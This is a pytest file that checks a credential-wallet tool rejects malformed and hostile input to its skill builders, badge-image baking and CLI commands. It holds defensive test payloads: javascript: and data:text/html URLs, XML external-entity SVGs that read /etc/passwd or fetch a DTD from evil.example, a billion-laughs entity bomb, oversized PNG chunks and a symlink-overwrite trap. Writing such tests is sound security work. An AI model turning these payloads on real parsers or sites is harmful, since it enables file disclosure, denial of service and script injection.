"""Hostile input to the skills builders, baking and the skills commands, case by case.

Each case names the input and the exact outcome: the typed error (its exact class, and
for builders the field it names) or the exit code and a phrase of the message.
"""

from __future__ import annotations

import json
import struct
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from skillswallet.errors import (
    AlreadyBakedError,
    AssessmentMethodError,
    BakedImageError,
    BuilderError,
    LevelError,
    SelfAssessmentError,
)
from skillswallet.skills.baking import bake, extract
from skillswallet.skills.builders import (
    EvidenceItem,
    NationalLevel,
    Profile,
    Skill,
    badge_credential,
    diploma_credential,
    endorsement,
    self_assessment,
    skill_credential,
)
from skillswallet.verify import verify

from ..conftest import invoke_main
from ..imagekit import IDAT, IEND, IHDR, PNG, SIGNATURE, SVG, itxt, png_chunk
from ..vaultkit import HOLDER_DID, NOW, credential

ISSUER_DID = "did:key:z6MkeoQNHBYV9jGNkuzAojDAAzJkEdJCrSWGswK6YKskFacZ"
ADVICE = "http://data.europa.eu/esco/skill/045f71e6-0699-4169-8a54-9c6b96f3174d"
SCHOOL = Profile(ISSUER_DID, "School")


@dataclass(frozen=True)
class BuilderCase:
    id: str
    call: Callable[[], Any]
    error: type[Exception]
    field: str | None
    phrase: str


def _skill(*skills: Skill, **options: Any) -> Callable[[], Any]:
    kwargs: dict[str, Any] = {"issuer": SCHOOL, "subject": HOLDER_DID, "valid_from": NOW}
    kwargs.update(options)
    return lambda: skill_credential(list(skills), **kwargs)


def _self(*skills: Skill, issuer: str = HOLDER_DID, subject: str = HOLDER_DID) -> Callable[[], Any]:
    return lambda: self_assessment(
        list(skills), issuer=Profile(issuer), subject=subject, valid_from=NOW
    )


def _with(builder: Callable[..., Any], **defaults: Any) -> Callable[..., Callable[[], Any]]:
    """``_x(**changes)`` is a call of ``builder`` with the defaults, changed."""
    return lambda **changes: lambda: builder(**{**defaults, **changes})


_diploma = _with(
    diploma_credential,
    name="Diploma",
    achievement_type="Diploma",
    eqf_level=4,
    awarding_body=SCHOOL,
    subject=HOLDER_DID,
    valid_from=NOW,
)
_badge = _with(
    badge_credential,
    name="Badge",
    criteria="Did it.",
    image="https://school.example/b.png",
    issuer=SCHOOL,
    subject=HOLDER_DID,
    valid_from=NOW,
)
_endorse = _with(
    endorsement,
    endorser=SCHOOL,
    holder=HOLDER_DID,
    relationship="peer",
    comment="Good.",
    skill=Skill(ADVICE, "give advice"),
    valid_from=NOW,
)


def ok_skill(**changes: Any) -> Skill:
    values: dict[str, Any] = {"uri": ADVICE, "label": "give advice", "level": "B", "method": "exam"}
    values.update(changes)
    return Skill(**values)


BUILDER_CASES = [
    BuilderCase("level D", _skill(ok_skill(level="D")), LevelError, "skills[0].level", "'D'"),
    BuilderCase("level 0", _skill(ok_skill(level=0)), LevelError, "skills[0].level", "1-5"),
    BuilderCase("level 6", _skill(ok_skill(level="6")), LevelError, "skills[0].level", "'6'"),
    BuilderCase("level True", _skill(ok_skill(level=True)), LevelError, "skills[0].level", "True"),
    BuilderCase("level missing", _skill(ok_skill(level=None)), LevelError, "skills[0].level", ""),
    BuilderCase(
        "second skill's level",
        _skill(ok_skill(), ok_skill(uri=ADVICE + "x", level="expert")),
        LevelError,
        "skills[1].level",
        "'expert'",
    ),
    BuilderCase(
        "unknown method",
        _skill(ok_skill(method="gut feeling")),
        AssessmentMethodError,
        "skills[0].method",
        "workplace-assessment",
    ),
    BuilderCase(
        "no method",
        _skill(ok_skill(method=None)),
        AssessmentMethodError,
        "skills[0].method",
        "required",
    ),
    BuilderCase("no skills", _skill(), BuilderError, "skills", "at least one skill"),
    BuilderCase(
        "same skill twice", _skill(ok_skill(), ok_skill()), BuilderError, "skills[1].uri", "twice"
    ),
    BuilderCase(
        "skill URI not a URI",
        _skill(ok_skill(uri="tungsten welding")),
        BuilderError,
        "skills[0].uri",
        "absolute URI",
    ),
    BuilderCase(
        "non-ESCO skill without framework",
        _skill(ok_skill(uri="https://acme.example/s/1")),
        BuilderError,
        "skills[0].framework",
        "not an ESCO URI",
    ),
    BuilderCase("empty label", _skill(ok_skill(label=" ")), BuilderError, "skills[0].label", ""),
    BuilderCase(
        "evidence URL not a URI",
        _skill(ok_skill(evidence=(EvidenceItem("r", url="not a url"),))),
        BuilderError,
        "skills[0].evidence[0].url",
        "absolute URI",
    ),
    BuilderCase(
        "subject not a DID",
        _skill(ok_skill(), subject="Alex"),
        BuilderError,
        "subject",
        "absolute URI",
    ),
    BuilderCase(
        "naive valid_from",
        _skill(ok_skill(), valid_from=datetime(2025, 1, 1)),
        BuilderError,
        "valid_from",
        "timezone",
    ),
    BuilderCase(
        "valid_until before valid_from",
        _skill(ok_skill(), valid_until=NOW.replace(year=2020)),
        BuilderError,
        "valid_until",
        "later",
    ),
    BuilderCase(
        "self-assessment about someone else",
        _self(Skill(ADVICE, "give advice", level="A"), issuer=ISSUER_DID),
        SelfAssessmentError,
        "subject",
        "not the issuer",
    ),
    BuilderCase(
        "self-assessment with a method",
        _self(Skill(ADVICE, "give advice", level="A", method="exam")),
        AssessmentMethodError,
        "skills[0].method",
        "no assessment method",
    ),
    BuilderCase(
        "self-assessment level Z",
        _self(Skill(ADVICE, "give advice", level="Z")),
        LevelError,
        "skills[0].level",
        "ProfilPass",
    ),
    BuilderCase("EQF 0", _diploma(eqf_level=0), LevelError, "eqf_level", "1 to 8"),
    BuilderCase("EQF 9", _diploma(eqf_level=9), LevelError, "eqf_level", "1 to 8"),
    BuilderCase("EQF '6'", _diploma(eqf_level="6"), LevelError, "eqf_level", "1 to 8"),
    BuilderCase(
        "unknown diploma type",
        _diploma(achievement_type="Hogwarts"),
        BuilderError,
        "achievement_type",
        "BachelorDegree",
    ),
    BuilderCase(
        "awarding body without name",
        _diploma(awarding_body=Profile(ISSUER_DID)),
        BuilderError,
        "awarding_body.name",
        "needs a name",
    ),
    BuilderCase(
        "diploma skill with a level",
        _diploma(skills=[Skill(ADVICE, "advice", level="B")]),
        BuilderError,
        "skills[0]",
        "skill credential",
    ),
    BuilderCase(
        "national level empty",
        _diploma(national_level=NationalLevel("NLQF", "")),
        BuilderError,
        "national_level.level",
        "",
    ),
    BuilderCase("credits -1", _diploma(credits=-1), BuilderError, "credits", "-1"),
    BuilderCase(
        "evidence link javascript:",
        _skill(
            Skill(
                ADVICE,
                "advice",
                level="B",
                method="portfolio",
                evidence=(EvidenceItem("portfolio", url="javascript:alert(1)"),),
            )
        ),
        BuilderError,
        "skills[0].evidence[0].url",
        "http(s) URLs or URNs",
    ),
    BuilderCase(
        "badge image javascript:",
        _badge(image="javascript:alert(1)"),
        BuilderError,
        "image",
        "http(s) URL",
    ),
    BuilderCase(
        "badge image data: text/html",
        _badge(image="data:text/html;base64,PGgxPg=="),
        BuilderError,
        "image",
        "base64 PNG",
    ),
    BuilderCase("badge without criteria", _badge(criteria=""), BuilderError, "criteria", ""),
    BuilderCase(
        "endorsement by the holder",
        _endorse(endorser=Profile(HOLDER_DID)),
        BuilderError,
        "endorser",
        "someone else",
    ),
    BuilderCase(
        "endorsement of nothing", _endorse(skill=None), BuilderError, "skill", "exactly one"
    ),
    BuilderCase(
        "endorsement of both",
        _endorse(credential="urn:uuid:1"),
        BuilderError,
        "skill",
        "exactly one",
    ),
    BuilderCase(
        "unknown relationship",
        _endorse(relationship="mother"),
        BuilderError,
        "relationship",
        "supervisor",
    ),
    BuilderCase("empty comment", _endorse(comment=""), BuilderError, "comment", ""),
]


@pytest.mark.parametrize("case", BUILDER_CASES, ids=[c.id for c in BUILDER_CASES])
def test_builder_refuses_with_the_exact_typed_error(case: BuilderCase) -> None:
    with pytest.raises(BuilderError) as info:
        case.call()
    assert type(info.value) is case.error
    assert info.value.field == case.field
    assert case.phrase in str(info.value)


# --- baked images -------------------------------------------------------------------------

SIGNED = credential()
NOT_VERIFIED = "not verified"  # extracted, but verification fails
OB = b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
SVG_OPEN = b'<svg xmlns="http://www.w3.org/2000/svg" '


def _tampered_png() -> bytes:
    baked = bake(PNG, SIGNED)
    start = len(SIGNATURE + IHDR + IDAT)
    chunk = baked[start : len(baked) - len(IEND)]
    text = chunk[8:-4].replace(b"Advising colleagues", b"Advising colleaguez", 1)
    return baked[:start] + png_chunk(b"iTXt", text) + IEND  # a correct CRC: only the proof fails


def _tampered_svg() -> bytes:
    return bake(SVG, SIGNED).replace(b"Advising colleagues", b"Advising colleaguez", 1)


@dataclass(frozen=True)
class ImageCase:
    id: str
    image: Callable[[], bytes]
    outcome: type[Exception] | str | None  # an error, NOT_VERIFIED, or None (no credential)
    phrase: str = ""
    operation: str = "extract"


def _png(*chunks: bytes) -> Callable[[], bytes]:
    return lambda: SIGNATURE + IHDR + b"".join(chunks) + IEND


IMAGE_CASES = [
    ImageCase("png without credential", lambda: PNG, None),
    ImageCase("svg without credential", lambda: SVG, None),
    ImageCase("png with an OB 2.0 assertion only", _png(itxt(b"{}", b"openbadges")), None),
    ImageCase("tampered baked png", _tampered_png, NOT_VERIFIED),
    ImageCase("tampered baked svg", _tampered_svg, NOT_VERIFIED),
    ImageCase("truncated png", lambda: PNG[:-5], BakedImageError, "truncated"),
    ImageCase("png cut after signature", lambda: SIGNATURE, BakedImageError, "truncated"),
    ImageCase(
        "png CRC mismatch",
        _png(png_chunk(b"IDAT", b"x", crc=0)),
        BakedImageError,
        "chunk 'IDAT' at byte 33 has a wrong CRC",
    ),
    ImageCase(
        "png chunk claiming 50 MB",
        lambda: SIGNATURE + IHDR + struct.pack(">I", 50_000_000) + b"iTXt" + b"x" * 64,
        BakedImageError,
        "claims 50000000 bytes",
    ),
    ImageCase(
        "png chunk claiming 4 GiB",
        lambda: SIGNATURE + IHDR + b"\xff\xff\xff\xffIDAT",
        BakedImageError,
        "claims 4294967295 bytes",
    ),
    ImageCase(
        "image over 32 MiB",
        lambda: PNG + b"\0" * (32 * 2**20),
        BakedImageError,
        "larger than 32 MiB",
    ),
    ImageCase("png without IHDR", lambda: SIGNATURE + IEND, BakedImageError, "IHDR"),
    ImageCase("png data after IEND", lambda: PNG + b"junk", BakedImageError, "4 bytes after"),
    ImageCase(
        "compressed credential chunk",
        _png(itxt(b"x", compressed=True)),
        BakedImageError,
        "compressed",
    ),
    ImageCase(
        "two credential chunks",
        _png(itxt(b"{}"), itxt(b"{}")),
        BakedImageError,
        "more than one credential",
    ),
    ImageCase("credential not JSON", _png(itxt(b"{nope")), BakedImageError, "not valid JSON"),
    ImageCase("credential a JSON array", _png(itxt(b"[1]")), BakedImageError, "JSON object"),
    ImageCase("credential not UTF-8", _png(itxt(b"\xff{}")), BakedImageError, "not UTF-8"),
    ImageCase("VC-JWT in png", _png(itxt(b"eyJh.eyJi.c2ln")), BakedImageError, "VC-JWT"),
    ImageCase("GIF", lambda: b"GIF89a\x01\x00", BakedImageError, "neither PNG nor SVG"),
    ImageCase(
        "svg billion laughs",
        lambda: (
            b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
            + SVG_OPEN
            + b">&b;</svg>"
        ),
        BakedImageError,
        "declares an XML entity",
    ),
    ImageCase(
        "svg external entity",
        lambda: (
            b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG_OPEN + b">&x;</svg>"
        ),
        BakedImageError,
        "declares an XML entity",
    ),
    ImageCase(
        "svg external parameter entity",
        lambda: (
            b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
            + SVG_OPEN
            + b"/>"
        ),
        BakedImageError,
        "declares an XML entity",
    ),
    ImageCase(
        "svg entity baked into",
        lambda: b'<!DOCTYPE svg [<!ENTITY a "a">]>' + SVG_OPEN + b"/>",
        BakedImageError,
        "declares an XML entity",
        "bake",
    ),
    ImageCase("svg not well-formed", lambda: SVG_OPEN + b">", BakedImageError, "well-formed"),
    ImageCase("xml that is not svg", lambda: b"<html/>", BakedImageError, "root is not <svg>"),
    ImageCase(
        "svg with VC-JWT",
        lambda: SVG_OPEN + OB + b'><openbadges:credential verify="a.b.c"/></svg>',
        BakedImageError,
        "VC-JWT",
    ),
    ImageCase(
        "svg with two credentials",
        lambda: (
            SVG_OPEN
            + OB
            + b"><openbadges:credential>{}</openbadges:credential>"
            + b"<openbadges:credential>{}</openbadges:credential></svg>"
        ),
        BakedImageError,
        "more than one credential",
    ),
    ImageCase(
        "svg in UTF-16",
        lambda: SVG.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        BakedImageError,
        "UTF-16",
    ),
    ImageCase(
        "svg in Latin-1",
        lambda: b'<?xml version="1.0" encoding="ISO-8859-1"?>' + SVG_OPEN + b"/>",
        BakedImageError,
        "only UTF-8",
    ),
    ImageCase(
        "svg binding openbadges elsewhere",
        lambda: SVG_OPEN + b'xmlns:openbadges="urn:other"/>',
        BakedImageError,
        "binds the prefix openbadges",
    ),
    ImageCase(
        "baking into a baked png",
        lambda: bake(PNG, {"a": 1}),
        AlreadyBakedError,
        "already carries a credential",
        "bake",
    ),
    ImageCase(
        "baking into a baked svg",
        lambda: bake(SVG, {"a": 1}),
        AlreadyBakedError,
        "already carries a credential",
        "bake",
    ),
    ImageCase("baking into a GIF", lambda: b"GIF89a", BakedImageError, "neither", "bake"),
    ImageCase("baking into a truncated png", lambda: PNG[:20], BakedImageError, "trunc", "bake"),
]


@pytest.mark.parametrize("case", IMAGE_CASES, ids=[c.id for c in IMAGE_CASES])
def test_image_gives_the_exact_outcome(case: ImageCase) -> None:
    image = case.image()
    if isinstance(case.outcome, type):
        with pytest.raises(BakedImageError) as info:
            if case.operation == "bake":
                bake(image, SIGNED)
            else:
                extract(image)
        assert type(info.value) is case.outcome
        assert case.phrase in str(info.value)
        return
    found = extract(image)
    if case.outcome is None:
        assert found is None
    else:
        assert found is not None
        assert not verify(found, now=NOW).verified


# --- the commands -------------------------------------------------------------------------

TAMPERED = {**SIGNED, "name": "Advising colleagues (expert)"}


def _files(tmp: Path) -> None:
    (tmp / "signed.json").write_text(json.dumps(SIGNED))
    (tmp / "tampered.json").write_text(json.dumps(TAMPERED))
    (tmp / "in.png").write_bytes(PNG)
    (tmp / "truncated.png").write_bytes(PNG[:-5])
    (tmp / "crc.png").write_bytes(SIGNATURE + IHDR + png_chunk(b"IDAT", b"x", crc=1) + IEND)
    (tmp / "laughs.svg").write_bytes(
        b'<!DOCTYPE svg [<!ENTITY a "a"><!ENTITY b "&a;&a;">]>' + SVG_OPEN + b">&b;</svg>"
    )
    (tmp / "bad-template.json").write_text('{"credentialSubject": {"achievement": {"name": ""}}}')
    (tmp / "array-template.json").write_text("[]")
    (tmp / "victim").write_text("keep me")
    (tmp / "link.png").symlink_to(tmp / "victim")


SKILL = ("new", "skill", "--skill", ADVICE, "--label", "give advice", "--issuer", ISSUER_DID)
TO_HOLDER = ("--subject", HOLDER_DID)
BAKE = ("bake", "--credential", "{tmp}/signed.json", "--image", "{tmp}/in.png")


@dataclass(frozen=True)
class CommandCase:
    id: str
    args: tuple[str, ...]  # "{tmp}" is the case's directory
    code: int
    phrase: str


COMMAND_CASES = [
    CommandCase("level D", (*SKILL, *TO_HOLDER, "--level", "D", "--method", "exam"), 2, "'D'"),
    CommandCase(
        "unknown method",
        (*SKILL, *TO_HOLDER, "--level", "B", "--method", "vibes"),
        2,
        "--method (skill 1): 'vibes' is not an assessment method",
    ),
    CommandCase(
        "labels do not match skills",
        (*SKILL, "--skill", ADVICE + "2", *TO_HOLDER, "--level", "B", "--method", "exam"),
        2,
        "one --label for each --skill",
    ),
    CommandCase(
        "EQF 9",
        (
            *("new", "diploma", "--name", "X", "--eqf", "9", "--issuer", ISSUER_DID),
            *("--issuer-name", "S", *TO_HOLDER),
        ),
        2,
        "--eqf: 9 is not an EQF level",
    ),
    CommandCase(
        "EQF not a number",
        (
            *("new", "diploma", "--name", "X", "--eqf", "six", "--issuer", ISSUER_DID),
            *("--issuer-name", "S", *TO_HOLDER),
        ),
        2,
        "Invalid value for '--eqf'",
    ),
    CommandCase(
        "self-assessment about someone else",
        (
            *("new", "self-assessment", "--skill", ADVICE, "--label", "a", "--level", "A"),
            *("--subject", HOLDER_DID, "--issuer", ISSUER_DID),
        ),
        2,
        "--subject: the subject",
    ),
    CommandCase(
        "endorsing yourself",
        (
            *("new", "endorsement", "--issuer", HOLDER_DID, *TO_HOLDER, "--relationship", "peer"),
            *("--comment", "me", "--credential", "urn:uuid:1"),
        ),
        2,
        "--issuer: an endorsement comes from someone else",
    ),
    CommandCase(
        "template breaking the schema",
        (
            *(*SKILL, *TO_HOLDER, "--level", "B", "--method", "exam"),
            *("--template", "{tmp}/bad-template.json"),
        ),
        2,
        "--template: does not match urn:skillswallet:schema:skill:1: "
        "/credentialSubject/achievement/name",
    ),
    CommandCase(
        "template not an object",
        (
            *(*SKILL, *TO_HOLDER, "--level", "B", "--method", "exam"),
            *("--template", "{tmp}/array-template.json"),
        ),
        3,
        "must be a JSON object",
    ),
    CommandCase(
        "--out is a symbolic link",
        (
            *(*SKILL, *TO_HOLDER, "--level", "B", "--method", "exam", "--out", "{tmp}/link.png"),
            *("--force",),
        ),
        3,
        "cannot write",
    ),
    CommandCase(
        "bake a tampered credential",
        (
            *("bake", "--credential", "{tmp}/tampered.json", "--image", "{tmp}/in.png"),
            *("--out", "{tmp}/out.png"),
        ),
        1,
        "does not verify: proof",
    ),
    CommandCase(
        "bake into a truncated png",
        (
            *("bake", "--credential", "{tmp}/signed.json", "--image", "{tmp}/truncated.png"),
            *("--out", "{tmp}/out.png"),
        ),
        3,
        "truncated",
    ),
    CommandCase(
        "bake into a png with a bad CRC",
        (
            *("bake", "--credential", "{tmp}/signed.json", "--image", "{tmp}/crc.png"),
            *("--out", "{tmp}/out.png"),
        ),
        3,
        "wrong CRC",
    ),
    CommandCase(
        "bake into an svg with entities",
        (
            *("bake", "--credential", "{tmp}/signed.json", "--image", "{tmp}/laughs.svg"),
            *("--out", "{tmp}/out.svg"),
        ),
        3,
        "declares an XML entity",
    ),
    CommandCase(
        "bake onto a symbolic link",
        (*BAKE, "--out", "{tmp}/link.png", "--force"),
        3,
        "cannot write",
    ),
    CommandCase(
        "bake over an existing file", (*BAKE, "--out", "{tmp}/victim"), 3, "already exists"
    ),
    CommandCase("bake a missing image", (*BAKE[:4], "{tmp}/no.png", "--out", "x"), 3, "cannot"),
]


@pytest.mark.parametrize("case", COMMAND_CASES, ids=[c.id for c in COMMAND_CASES])
def test_command_gives_the_exact_exit_code(
    case: CommandCase,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    _files(tmp_path)
    args = [a.replace("{tmp}", str(tmp_path)) for a in case.args]
    code, out, err = invoke_main(monkeypatch, capsys, *args)
    assert code == case.code, err
    assert case.phrase in out + err
    assert (tmp_path / "victim").read_text() == "keep me"  # nothing written through a link
    assert not (tmp_path / "out.png").exists() and not (tmp_path / "out.svg").exists()
